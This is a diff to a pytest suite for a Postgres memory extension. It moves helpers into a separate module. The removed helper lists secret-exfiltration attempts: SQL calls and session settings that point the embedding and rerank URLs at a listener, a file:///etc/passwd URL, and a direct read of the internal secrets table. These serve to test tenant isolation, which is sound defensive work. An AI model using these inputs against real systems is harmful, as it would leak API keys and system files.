@@ -13,6 +13,7 @@ from collections.abc import Iterator
 import psycopg
 import pytest
 from conftest import SERVER, Logins
+from exfiltration import attempt, exfiltration_attempts
 from http_stub import Stub
 from psycopg import sql
 from psycopg.types.json import Json, Jsonb
@@ -96,16 +97,6 @@ def two_tenants(db, logins) -> Iterator[tuple[psycopg.Connection, Logins, dict]]
 
 def foreign(rows: list[tuple], marker: str = "globex") -> int:
     return sum(marker in repr(row) for row in rows)
-
-
-def attempt(conn: psycopg.Connection, query: str, params: tuple = ()) -> list[tuple]:
-    """Rows a statement returns; an error (refused) returns none."""
-    try:
-        with conn.transaction():
-            cursor = conn.execute(query, params)
-            return cursor.fetchall() if cursor.description else []
-    except psycopg.Error:
-        return []
 
 
 def globex_unchanged(db: psycopg.Connection, before: dict) -> None:
@@ -370,61 +361,6 @@ def owner_secret(two_tenants) -> Iterator[tuple[psycopg.Connection, Logins]]:
     db.execute("select memory.set_secret('openai_api_key', %s, 'https://api.openai.com/v1')", (SECRET,))
     db.execute("select memory.set_secret('rerank_api_key', %s, 'https://api.cohere.com')", (SECRET,))
     yield db, logins
-
-
-def exfiltration_attempts(listener: str) -> list[tuple[str, tuple]]:
-    settings = {
-        "embedder": "openai",
-        "openai_base_url": listener,
-        "openai_embedding_model": "m",
-        "openai_embedding_dimensions": 8,
-        "http_timeout_seconds": 1,
-        "http_retries": 0,
-    }
-    session_tricks = [
-        (f"set memory.openai_base_url = '{listener}'", ()),
-        ("set memory.embedder = 'openai'", ()),
-        ("select memory.embed(array['hello'])", ()),
-        ("select * from memory.recall('hello')", ()),
-        (f"set memory.rerank_url = '{listener}/rerank'", ()),
-        ("set memory.rerank = 'http'", ()),
-        ("select * from memory.recall('hello')", ()),
-        ("select memory.setting('openai_base_url')", ()),
-        ("set memory.entity_extractor = 'llm'", ()),
-        (
-            """select memory.commit('s', '[{"role": "user", "content": "Ana uses Postgres"}]', enrich => 'now')""",
-            (),
-        ),
-    ]
-    # Direct calls first: a session setting of the administrator's, once set, fails every later call.
-    return [
-        ("select * from memory.recall('hello', weights => %s)", (Jsonb({"rerank": "http", "rerank_url": listener}),)),
-        ("select * from memory.recall('hello', weights => %s)", (Jsonb({"openai_base_url": listener}),)),
-        (
-            "select memory_internal._embed_texts(array['hello'], memory_internal._settings_json() || %s)",
-            (Jsonb(settings),),
-        ),
-        (
-            "select memory_internal._embed_texts(array['hello'], memory_internal._settings_json() || %s)",
-            (Jsonb({**settings, "openai_base_url": "file:///etc/passwd#"}),),
-        ),
-        (
-            "select memory_internal._rerank('q', array['d'], memory_internal._settings_json() || %s)",
-            (Jsonb({"rerank": "http", "rerank_url": listener + "/rerank", "rerank_timeout_seconds": 1}),),
-        ),
-        (
-            'select * from memory_internal._summarize_turns(\'[{"role": "user", "content": "hi"}]\', '
-            "memory_internal._settings_json() || %s)",
-            (Jsonb({**settings, "summarizer": "llm", "openai_chat_model": "m"}),),
-        ),
-        (
-            'select memory_internal._llm_chat(\'entities\', \'[{"role": "user", "content": "hi"}]\', '
-            "memory_internal._settings_json() || %s)",
-            (Jsonb({**settings, "entity_extractor": "llm", "openai_chat_model": "m"}),),
-        ),
-        ("select * from memory_internal._secrets", ()),
-        *session_tricks,
-    ]
 
 
 @pytest.mark.parametrize("bound", [True, False], ids=["tenant-bound role", "application role"])
